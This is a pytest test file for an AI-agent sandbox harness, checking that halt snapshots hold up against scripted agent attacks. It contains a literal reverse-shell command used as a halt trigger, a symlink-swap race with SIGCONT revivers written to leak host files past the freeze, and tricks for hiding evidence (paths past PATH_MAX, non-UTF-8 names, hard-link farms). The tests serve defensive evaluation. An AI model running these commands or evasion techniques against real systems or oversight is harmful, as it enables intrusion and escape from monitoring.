"""Halt snapshots of the local backend, attacked through the engine (issue 13, items 1, 5).

Each attack is a scripted agent running a real task on real bubblewrap; the default
policy halts it, the runner freezes the sandbox and saves the snapshot, and the test
checks the host-side and record-side invariants: no host file in the snapshot,
sparse files stored sparsely, an over-cap snapshot cut with a note, ``verify`` ok.
"""

from __future__ import annotations

import json
import secrets
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from hazmat.agents.models import resolve_agent
from hazmat.policy.compose import task_policies
from hazmat.runner import EpisodeResult, run_tasks
from hazmat.sandbox import SandboxSpec
from hazmat.sandbox.local import LocalSandbox
from hazmat.sandbox.local.snapshot import SNAPSHOT_CAP
from hazmat.tasks import discover_tasks

pytestmark = [pytest.mark.anyio, pytest.mark.local, pytest.mark.timeout(240)]

HALT = {"tool": "bash", "command": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}
"""A reverse shell: the default policy halts the episode on it (it never runs)."""

RACER = """\
import ctypes, os, signal, sys
host, ws = sys.argv[1], "/home/agent/ws"
os.makedirs(ws + "/d", exist_ok=True)
for i in range(5):
    with open(f"{ws}/d/own{i}.txt", "w") as f:
        f.write("the agent's own file\\n")
for i in range(300):  # the snapshot takes a while: the racers run meanwhile
    with open(f"{ws}/d/f-{i:03}", "w") as f:
        f.write("filler\\n")
for name in sys.argv[2:]:  # named like host files: listed here, read there?
    with open(f"{ws}/d/{name}", "w") as f:
        f.write("decoy\\n")
if not os.path.lexists(ws + "/l"):
    os.symlink(host, ws + "/l")
for _ in range(2):  # three racers; each revives the others now and then
    if os.fork() == 0:
        break
libc = ctypes.CDLL(None, use_errno=True)
a, b = (ws + "/d").encode(), (ws + "/l").encode()
n = 0
while True:  # RENAME_EXCHANGE: d and l swap places, over and over
    libc.renameat2(-100, a, -100, b, 2)
    n += 1
    if n % 64 == 0:
        os.kill(-1, signal.SIGCONT)
"""

REVIVER = """\
import os, signal
while True:  # short-lived children, each sends SIGCONT to every process it can
    if os.fork() == 0:
        try:
            os.kill(-1, signal.SIGCONT)
        finally:
            os._exit(0)
    os.wait()
"""


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def _task(folder: Path, task_id: str) -> Path:
    folder.mkdir(parents=True)
    (folder / "task.yaml").write_text(
        yaml.safe_dump(
            {
                "id": task_id,
                "title": "an attack on the halt snapshot",
                "category": "tests",
                "instructions": "Do as the script says.",
                "tools": ["bash", "write_file", "submit"],
                "limits": {"steps": 12, "seconds": 180},
                "milestones": [
                    {"id": "never", "title": "never reached", "check": {"submission": "-"}}
                ],
                "policy": {"extends": "default"},
            }
        )
    )
    return folder


async def _run(
    tmp_path: Path, task_id: str, steps: list[dict[str, Any]], epochs: int = 1
) -> tuple[Path, list[EpisodeResult]]:
    script = tmp_path / "script.yaml"
    script.write_text(yaml.safe_dump({"steps": steps}))
    tasks = discover_tasks([_task(tmp_path / "task", task_id)])
    return await run_tasks(
        tasks,
        [resolve_agent(f"scripted:{script}")],
        backend="local",
        out_dir=tmp_path / "runs",
        epochs=epochs,
        policy_for=task_policies(None),
    )


def _verify(run_dir: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "hazmat.cli", "verify", str(run_dir)],
        capture_output=True,
        text=True,
        timeout=120,
    )


def _snapshot(run_dir: Path, result: EpisodeResult) -> Path:
    assert result.reason == "halted", (result.reason, result.error)
    snap = run_dir / "episodes" / result.episode_id / "snapshot"
    assert (snap / "changes.tar").is_file(), sorted(p.name for p in snap.parent.iterdir())
    return snap


async def test_a_symlink_swap_race_never_puts_host_files_in_the_halt_snapshot(
    tmp_path: Path,
) -> None:
    """The agent swaps a workspace folder with a symlink to a host folder (renameat2
    RENAME_EXCHANGE in a tight loop) while children send SIGCONT to everything; it is
    halted, frozen and snapshotted, eight times. The host folder is not visible in the
    sandbox: only a host-side read that follows the symlink could archive its files.
    Half of them have decoys of the same name in the agent's folder, so a snapshot that
    lists the folder while it is real and reads it while it is the symlink leaks their
    contents (the SIGSTOP freeze and path-based reads did, in a third to half of them)."""
    token = secrets.token_hex(6)
    host = tmp_path / "host-only"
    host.mkdir()
    planted = [f"planted-{token}-{i:02}.txt" for i in range(20)]
    for i, name in enumerate(planted):
        (host / name).write_text(f"PLANTED-CONTENT-{token}-{i:02}\n")
    decoys = " ".join(planted[:10])
    steps: list[dict[str, Any]] = [
        {"tool": "write_file", "path": "/home/agent/racer.py", "content": RACER},
        {"tool": "write_file", "path": "/home/agent/revive.py", "content": REVIVER},
        {
            "tool": "bash",
            "command": f"nohup python3 /home/agent/racer.py {host} {decoys} >/dev/null 2>&1 &"
            " for i in 1 2 3; do nohup python3 /home/agent/revive.py >/dev/null 2>&1 & done",
        },
        {"tool": "bash", "command": "sleep 0.5; ls /home/agent/ws"},
        HALT,
    ]
    run_dir, results = await _run(tmp_path, "tests/snapshot-race", steps, epochs=8)
    assert len(results) == 8
    for result in results:
        snap = _snapshot(run_dir, result)
        raw = b"".join(p.read_bytes() for p in sorted(snap.parent.rglob("*")) if p.is_file())
        for name in planted[10:]:
            assert name.encode() not in raw, f"host file name {name} in the snapshot"
        assert f"PLANTED-CONTENT-{token}".encode() not in raw, "host file content in the snapshot"
        with tarfile.open(snap / "changes.tar") as tar:
            members = {m.name: m for m in tar.getmembers()}
        # the race was on and the snapshot read the workspace, not nothing
        assert any(n.endswith("/own0.txt") for n in members), sorted(members)
        links = [m for n, m in members.items() if n in ("home/agent/ws/d", "home/agent/ws/l")]
        assert [m.linkname for m in links if m.issym()] == [str(host)], links
    verified = _verify(run_dir)
    assert verified.returncode == 0, verified.stdout + verified.stderr


async def test_sparse_files_are_stored_sparsely(tmp_path: Path) -> None:
    """Four ``truncate -s 512M`` files (2 GiB apparent) took a 2 GiB changes.tar; now a
    few KiB, and they read back (GNU tar and tarfile) as the same sparse files."""
    async with LocalSandbox(SandboxSpec(), episode_id="sparse") as sb:
        r = await sb.exec(
            "for i in 1 2 3 4; do truncate -s 512M ~/sparse$i; done;"
            "printf HELLO | dd of=$HOME/sparse2 bs=1 seek=104857600 conv=notrunc 2>/dev/null"
        )
        assert r.ok, r.stderr_text
        await sb.snapshot(tmp_path / "snap")
    tar_path = tmp_path / "snap" / "changes.tar"
    assert tar_path.stat().st_size < 1 << 20, tar_path.stat().st_size
    changes = json.loads((tmp_path / "snap" / "changes.json").read_text())
    assert changes["sparse"] == [f"/home/agent/sparse{i}" for i in range(1, 5)]
    with tarfile.open(tar_path) as tar:
        member = tar.getmember("home/agent/sparse2")
        assert member.size == 512 << 20 and member.uname == "agent"
        data = tar.extractfile(member)
        assert data is not None
        data.seek(104857600 - 3)
        assert data.read(10) == b"\0\0\0HELLO\0\0"
    if shutil.which("tar"):
        out = tmp_path / "out"
        out.mkdir()
        subprocess.run(["tar", "-xf", str(tar_path), "-C", str(out)], check=True, timeout=60)
        got = out / "home/agent/sparse2"
        assert got.stat().st_size == 512 << 20
        assert got.stat().st_blocks * 512 < 1 << 20  # extracted sparse, too
        with got.open("rb") as f:
            f.seek(104857600)
            assert f.read(5) == b"HELLO"


async def test_a_snapshot_over_the_cap_is_cut_with_a_note_and_verifies(tmp_path: Path) -> None:
    """The agent fills its workspace past the snapshot cap and is halted: the archive
    stays under the cap, changes.json names each file left out, verify is ok."""
    mib = (SNAPSHOT_CAP >> 20) // 3 + 8  # three of them are over the cap
    steps: list[dict[str, Any]] = [
        {
            "tool": "bash",
            "command": f"for f in a b c; do head -c {mib}M /dev/urandom > ~/big-$f; done; "
            "echo small > ~/small; truncate -s 2G ~/holes",
        },
        HALT,
    ]
    run_dir, [result] = await _run(tmp_path, "tests/snapshot-cap", steps)
    snap = _snapshot(run_dir, result)
    assert (snap / "changes.tar").stat().st_size <= SNAPSHOT_CAP
    changes = json.loads((snap / "changes.json").read_text())
    assert changes["truncated"] is True
    left = {e["path"]: e for e in changes["left_out"]}
    assert list(left) == ["/home/agent/big-c"], changes["left_out"]
    assert left["/home/agent/big-c"]["size"] == mib << 20
    assert "snapshot cap" in str(left["/home/agent/big-c"]["why"])
    with tarfile.open(snap / "changes.tar") as tar:
        names = set(tar.getnames())
    assert {"home/agent/big-a", "home/agent/big-b", "home/agent/small"} <= names
    assert "home/agent/holes" in names  # 2 GiB of holes cost nothing
    assert "home/agent/big-c" not in names
    verified = _verify(run_dir)
    assert verified.returncode == 0, verified.stdout + verified.stderr
    # the note is evidence: changing it is caught
    (snap / "changes.json").write_text(json.dumps({**changes, "left_out": []}))
    assert _verify(run_dir).returncode != 0


HIDE = (
    'cd ~ && python3 -c "\nimport os\nfor i in range(17):\n'
    "    n=('x'*249)+str(i%10); os.mkdir(n); os.chdir(n)\n"
    "open('stolen-notes.txt','w').write('EVIDENCE-PAST-PATH-MAX')\n"
    "print('hid at depth', len(os.getcwd()))\""
)
NAMES = (
    'cd ~ && python3 -c "\nimport os\n'
    "for n in [b'\\x9b31mC1', b'\\xff\\xfe', b'a\\nb']:\n    open(n,'wb').write(b'x')\nprint('ok')\""
)


async def test_a_file_past_path_max_and_non_utf8_names_are_in_the_halt_snapshot(
    tmp_path: Path,
) -> None:
    """Through the engine, the agent hides a file 17 folders of 250-char names deep
    (past PATH_MAX: it was missing from the snapshot, with no note) and writes files
    with names that are not UTF-8 (the runner's snapshot note failed with
    UnicodeEncodeError and the record said ``error (snapshot)``). The hidden file is
    listed and archived, the names are listed as escapes, the note is written."""
    from hazmat.replay.trace import read_events

    steps = [{"tool": "bash", "command": HIDE}, {"tool": "bash", "command": NAMES}, HALT]
    run_dir, [result] = await _run(tmp_path, "tests/snapshot-hide", steps)
    snap = _snapshot(run_dir, result)
    changes = json.loads((snap / "changes.json").read_text())
    hidden = [p for p in changes["added"] if p.endswith("/stolen-notes.txt")]
    assert len(hidden) == 1 and len(hidden[0]) > 4096, changes["added"][-3:]
    assert {"/home/agent/\\x9b31mC1", "/home/agent/\\xff\\xfe"} <= set(changes["added"])
    with tarfile.open(snap / "changes.tar") as tar:
        member = tar.getmember(hidden[0].lstrip("/"))
        data = tar.extractfile(member)
        assert data is not None and data.read() == b"EVIDENCE-PAST-PATH-MAX"
    events, problems, _ = read_events(run_dir)
    assert not problems
    kinds = [(e.get("type"), e.get("kind")) for e in events if e.get("kind") == "snapshot"]
    assert ("error", "snapshot") not in kinds, [e for e in events if e.get("type") == "error"]
    notes = [e for e in events if e.get("kind") == "snapshot" and "saved to" in str(e)]
    assert notes, kinds
    verified = _verify(run_dir)
    assert verified.returncode == 0, verified.stdout + verified.stderr


LINKS = """\
import os, sys
n, ws = int(sys.argv[1]), os.path.expanduser("~/farm")
os.makedirs(ws)
for s in range(n // 20000 + 1):
    with open(f"{ws}/src{s}", "wb") as f:
        f.write(os.urandom(8192))
for i in range(n):
    os.link(f"{ws}/src{i // 20000}", f"{ws}/{'L' * 190}{i:07}")
"""


async def test_a_hard_link_farm_is_listed_up_to_the_cap_and_archived_as_links(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The agent makes a hard-link farm (1e6 links with 200-char names took 80 s,
    2.4 GiB of runner memory and a 505 MB changes.json past the 256 MiB cap); here 30k
    links against a 10k entry cap. At most the cap is listed, the rest counted; the
    links are tar hard links (not 30k copies); changes.json counts against the cap."""
    from hazmat.sandbox.local import snapshot

    monkeypatch.setattr(snapshot, "MAX_ENTRIES", 10_000)
    cap = 24 << 20
    async with LocalSandbox(SandboxSpec(), episode_id="links") as sb:
        await sb.write_file("/home/agent/links.py", LINKS.encode())
        r = await sb.exec("python3 ~/links.py 30000", timeout=120)
        assert r.ok, r.stderr_text
        baseline = sb._baseline
        backing = sb._backing
        assert backing is not None
        await sb.freeze()
        info = await __import__("asyncio").to_thread(
            snapshot.save_snapshot,
            tmp_path / "snap",
            backing.root_fd,
            backing.dirs(),
            baseline,
            cap=cap,
        )
    changes = json.loads((tmp_path / "snap" / "changes.json").read_text())
    assert len(changes["added"]) == 10_000 and len(info.changed) == 10_000
    assert changes["not_listed"] > 20_000 - 10  # links.py, ~/farm and its sources listed
    size = sum((tmp_path / "snap" / n).stat().st_size for n in ("changes.json", "changes.tar"))
    assert size <= cap, size
    with tarfile.open(tmp_path / "snap" / "changes.tar") as tar:
        members = tar.getmembers()
    links = [m for m in members if m.islnk()]
    files = [m for m in members if m.isfile()]
    assert len(links) > 9_000 and len(files) < 10, (len(links), len(files))
    assert all(m.linkname.startswith("home/agent/farm/") for m in links)


async def test_a_snapshot_past_its_deadline_is_cut_with_a_note(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A snapshot that runs past its deadline stops and says so (``cut``), rather than
    taking as long as the agent's tree makes it."""
    from hazmat.sandbox.local import snapshot

    monkeypatch.setattr(snapshot, "DEADLINE", 0.0)
    async with LocalSandbox(SandboxSpec(), episode_id="deadline") as sb:
        await sb.write_file("/home/agent/links.py", LINKS.encode())
        r = await sb.exec("python3 ~/links.py 2000", timeout=120)
        assert r.ok, r.stderr_text
        await sb.snapshot(tmp_path / "snap")
    changes = json.loads((tmp_path / "snap" / "changes.json").read_text())
    assert "deadline" in changes["cut"], changes["cut"]
    assert len(changes["added"]) < 2000 and changes["deleted"] == []


async def test_a_sparse_file_with_many_stretches_stays_sparse(tmp_path: Path) -> None:
    """A 400 MiB file with a byte every 64 KiB (6000 data stretches) had its holes
    filled (more than 4096 stretches) and was left out whole, "over the snapshot cap";
    it is now stored sparsely and reads back the same."""
    async with LocalSandbox(SandboxSpec(), episode_id="stretches") as sb:
        r = await sb.exec(
            "python3 -c \"\nimport os\nfd=os.open(os.path.expanduser('~/holes'),"
            " os.O_CREAT|os.O_WRONLY)\nos.ftruncate(fd, 400<<20)\n"
            "[os.pwrite(fd, b'Z', i*65536) for i in range(6000)]\""
        )
        assert r.ok, r.stderr_text
        await sb.snapshot(tmp_path / "snap")
    changes = json.loads((tmp_path / "snap" / "changes.json").read_text())
    assert changes["left_out"] == [] and changes["sparse"] == ["/home/agent/holes"]
    assert (tmp_path / "snap" / "changes.tar").stat().st_size < 64 << 20
    with tarfile.open(tmp_path / "snap" / "changes.tar") as tar:
        data = tar.extractfile("home/agent/holes")
        assert data is not None
        data.seek(5999 * 65536 - 1)
        assert data.read(3) == b"\0Z\0"


async def test_a_file_at_the_bottom_of_a_deep_tree_stays_listed_past_the_name_budget(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """3000 nested folders: their paths together pass the snapshot's name budget (with
    10k levels, 10k of 32 MiB: the file at the bottom was counted, not listed). The
    folders are given up first, so the file hidden at the bottom is listed and
    archived, and the folders left out are counted."""
    from hazmat.sandbox.local import snapshot

    monkeypatch.setattr(snapshot, "MAX_NAME_BYTES", 1 << 20)
    async with LocalSandbox(SandboxSpec(), episode_id="deep") as sb:
        r = await sb.exec(
            'cd ~ && python3 -c "\nimport os\nfor i in range(3000):\n'
            "    os.mkdir('d'); os.chdir('d')\nopen('marker','w').write('DEEP')\""
        )
        assert r.ok, r.stderr_text
        await sb.snapshot(tmp_path / "snap")
    changes = json.loads((tmp_path / "snap" / "changes.json").read_text())
    marker = "/home/agent/" + "d/" * 3000 + "marker"
    assert marker in changes["added"]
    assert changes["not_listed"] > 1000
    assert sum(len(p) for p in changes["added"]) <= 1 << 20
    with tarfile.open(tmp_path / "snap" / "changes.tar") as tar:
        data = tar.extractfile(marker.lstrip("/"))
        assert data is not None and data.read() == b"DEEP"
